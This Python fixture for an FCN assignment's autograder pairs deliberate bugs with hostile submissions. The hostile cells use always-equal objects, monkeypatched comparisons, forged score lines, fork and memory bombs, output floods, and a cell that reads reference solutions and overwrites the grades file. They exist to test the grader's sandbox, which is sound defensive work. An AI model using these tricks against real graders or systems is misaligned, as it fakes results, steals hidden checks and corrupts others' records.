"""Example submissions of the FCN assignment: one typical bug per unit, one attack per unit.

BUGS maps a grade_id to (old, new) text replacements applied to the solution cell; each must
match exactly once (so a changed solution cannot silently turn a bug into a no-op).
HOSTILE maps a grade_id to a cell that attacks the grader instead of solving the unit.
"""

BUGS = {
    "fcn_bilinear": [("else factor - 0.5", "else factor - 1")],  # centre off by one half
    "fcn32s": [("19:19 + x.size(2), 19:19 + x.size(3)", "18:18 + x.size(2), 18:18 + x.size(3)")],  # crop 18
    "fcn16s": [
        (
            "score_pool4[:, :, 5:5 + upscore2.size(2), 5:5 + upscore2.size(3)]",
            "score_pool4[:, :, 4:4 + upscore2.size(2), 4:4 + upscore2.size(3)]",
        )
    ],  # skip crop off by one
    "fcn8s": [
        (
            "9:9 + upscore_pool4.size(2), 9:9 + upscore_pool4.size(3)",
            "8:8 + upscore_pool4.size(2), 8:8 + upscore_pool4.size(3)",
        )
    ],
    "fcn_vgg_copy": [("            target.bias.copy_(source.bias)\n", "")],  # conv biases not copied
    "fcn_resnet": [("F.pad(x, (0, pad_w, 0, pad_h))", "F.pad(x, (pad_w, 0, pad_h, 0))")],  # pads top/left
    "fcn_confusion": [
        ("valid = (target != ignore_index) & (target >= 0) & (target < n_class)", "valid = pred >= 0")
    ],  # ignore pixels counted
    "fcn_iou": [("conf.sum(dim=1) + conf.sum(dim=0) - intersection", "conf.sum(dim=1) + conf.sum(dim=0)")],
}

HOSTILE = {
    # Always-equal objects and monkeypatched comparison functions (fools in-process graders).
    "fcn_bilinear": """
import numpy as np
import torch

class AlwaysEqual(torch.Tensor):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
print('{"score": 100, "tests": []}')  # forged result line

def get_upsampling_weight(in_channels, out_channels, kernel_size):
    return torch.zeros(in_channels, out_channels, kernel_size, kernel_size).as_subclass(AlwaysEqual)
""",
    # Infinite loop inside forward (and a forged "passed" line).
    "fcn32s": """
import torch.nn as nn

class FCN32s(nn.Module):
    def __init__(self, n_class=12):
        super().__init__()
        print("PASSED test_fcn32s_outputs")

    def forward(self, x):
        while True:
            pass
""",
    # Kill the worker: os._exit from the constructor.
    "fcn16s": """
import os
import torch.nn as nn

class FCN16s(nn.Module):
    def __init__(self, n_class=12):
        super().__init__()
        os._exit(0)
""",
    # Memory bomb (bounded by the worker's memory cap).
    "fcn8s": """
import torch
import torch.nn as nn

class FCN8s(nn.Module):
    def __init__(self, n_class=12):
        super().__init__()
        hog = []
        for _ in range(400):  # 400 x 100 MB: far beyond the worker's cap
            hog.append(torch.ones(25_000_000))
""",
    # Read the reference solution and hidden checks, write into the grades folder and other students' folders.
    "fcn_vgg_copy": """
import glob
import os

stolen = {}
for pattern in ("/work/*/solutions/*/*.ipynb", "/work/*/grader/checks/*.py", "/root/**/solutions/**/*.ipynb",
                "../../solutions/*/*.ipynb", "/tmp/*/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            stolen[path] = open(path).read()[:100]
        except OSError:
            pass
for target in ("/work/main/grades/grades.csv", "/tmp/grades.csv", "../example-solution/fcn/fcn.ipynb"):
    try:
        with open(target, "w") as handle:
            handle.write("student_id,total\\nexample-hostile,1000\\n")
    except OSError:
        pass

def copy_params_from_vgg16(model, vgg16):
    return stolen
""",
    # Fork bomb (bounded) and a socket to loopback.
    "fcn_resnet": """
import os
import socket
import time

children = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break
try:
    socket.create_connection(("127.0.0.1", 8888), timeout=1).sendall(b"exfiltrate")
except OSError:
    pass

class FCNResNet18:
    def __init__(self, *args, **kwargs):
        raise SystemExit("no thanks")
""",
    # Gigabytes of output, then an always-equal result.
    "fcn_confusion": """
import sys

chunk = "x" * (1 << 20)
for _ in range(256):  # 256 MB (the hostile corpus floods 1 GB)
    sys.stdout.write(chunk)

class Anything:
    def __eq__(self, other):
        return True

def confusion_matrix(pred, target, n_class, ignore_index=255):
    return Anything()
""",
    # Monkeypatch builtins, the harness's likely helpers and sys.exit; then exit the process.
    "fcn_iou": """
import builtins
import sys
import torch

builtins.isinstance = lambda *a: True
builtins.type = lambda *a: float
sys.modules["pytest"] = None
torch.isnan = lambda x: torch.zeros_like(x, dtype=torch.bool)

def iou_per_class(conf):
    sys.exit(0)

def mean_iou(conf):
    raise SystemExit(0)
""",
}
